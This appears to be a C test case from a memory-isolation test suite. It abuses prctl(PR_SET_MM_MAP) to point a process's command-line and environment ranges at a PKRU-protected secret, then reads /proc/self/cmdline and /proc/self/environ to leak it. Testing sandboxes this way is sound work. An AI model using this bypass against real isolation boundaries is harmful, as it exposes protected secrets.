/* SPDX-License-Identifier: MIT */
/*
 * prctl(PR_SET_MM, PR_SET_MM_MAP) says, without privilege, where the command
 * line lies; the kernel prints that memory in /proc/self/cmdline, whatever
 * PKRU says.
 */
/* Isolation: any */
/* Blocked: 0 */
/* Control: 42 */
#include "attack.h"

extern char __executable_start, etext, edata;

static void try_option(long option)
{
	uint64_t brk = (uint64_t)sbrk(0);
	struct prctl_mm_map m = {
		.start_code = (uint64_t)&__executable_start,
		.end_code = (uint64_t)&etext,
		.start_data = (uint64_t)&edata - 16,
		.end_data = (uint64_t)&edata,
		.start_brk = brk,
		.brk = brk,
		.start_stack = (uint64_t)&brk,
		.arg_start = env.secret,
		.arg_end = env.secret + 64,
		.env_start = env.secret,
		.env_end = env.secret + 64,
		.exe_fd = (uint32_t)-1,
	};
	static const char *const names[] = {"/proc/self/cmdline", "/proc/self/environ"};
	long ret = raw(SYS_prctl, option, PR_SET_MM_MAP, &m, sizeof(m), 0);
	char buf[64];

	if (ret < 0)
		ret = raw(SYS_prctl, option, PR_SET_MM_ARG_START, env.secret, 0, 0);
	if (ret < 0)
		return;
	for (int i = 0; i < 2; i++) {
		int fd = open(names[i], O_RDONLY);

		if (fd >= 0 && read(fd, buf, sizeof(buf)) > 0)
			succeeded("%s shows the secret", names[i]);
		close(fd);
	}
	succeeded("PR_SET_MM was accepted");
}

void attack(void)
{
	try_option(PR_SET_MM);
	try_option(PR_SET_MM | 1l << 32);
}
